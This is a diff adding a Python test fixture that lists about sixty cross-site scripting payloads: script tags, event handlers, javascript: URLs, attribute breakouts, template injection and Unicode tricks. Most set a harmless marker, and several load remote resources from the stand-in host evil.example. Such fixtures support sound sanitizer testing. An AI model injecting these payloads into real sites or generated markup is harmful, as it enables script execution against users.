@@ -1,0 +1,73 @@
+"""Sixty ways in which a text tries to become a program. Each would set `window.__executed`."""
+
+from __future__ import annotations
+
+RUN = "window.__executed=1"
+
+PAYLOADS = (
+    # Elements that run or load a script.
+    f"<script>{RUN}</script>",
+    f"<SCRIPT>{RUN}</SCRIPT>",
+    f"</script><script>{RUN}</script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script\t>{RUN}</script\t>",
+    f"<script/x>{RUN}</script>",
+    f"<script src=data:text/javascript,{RUN}></script>",
+    "<script src=//evil.example/x.js></script>",
+    f"<script type=module>{RUN}</script>",
+    f"<<script>{RUN}//<</script>",
+    # Handlers of events.
+    f"<img src=x onerror={RUN}>",
+    f'<img src=x onerror="{RUN}">',
+    f"<img/src=x/onerror={RUN}>",
+    '<img src=x:x onerror="&#119;indow.__executed=1">',
+    f"<body onload={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}//",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><set onbegin={RUN} attributeName=x>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
+    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<textarea autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    "<iframe srcdoc='<script>parent.__executed=1</script>'></iframe>",
+    "<iframe src='javascript:parent.__executed=1'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='javascript:{RUN}'>",
+    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{background:url(//evil.example/x)}</style>",
+    # Addresses.
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"javascript://x.example/%0A{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"vbscript:{RUN}",
+    # Out of an attribute, a text, or a script.
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"' autofocus onfocus='{RUN}' x='",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script>",
+    f"';{RUN};//",
+    f'\\";{RUN};//',
+    f"${{{RUN}}}",
+    # Templates, entities, and odd characters.
+    "{{constructor.constructor('window.__executed=1')()}}",
+    "{% load x %}{% debug %}{{ request }}",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+    f"\u202e<img src=x onerror={RUN}>\u2028{RUN}",
+)
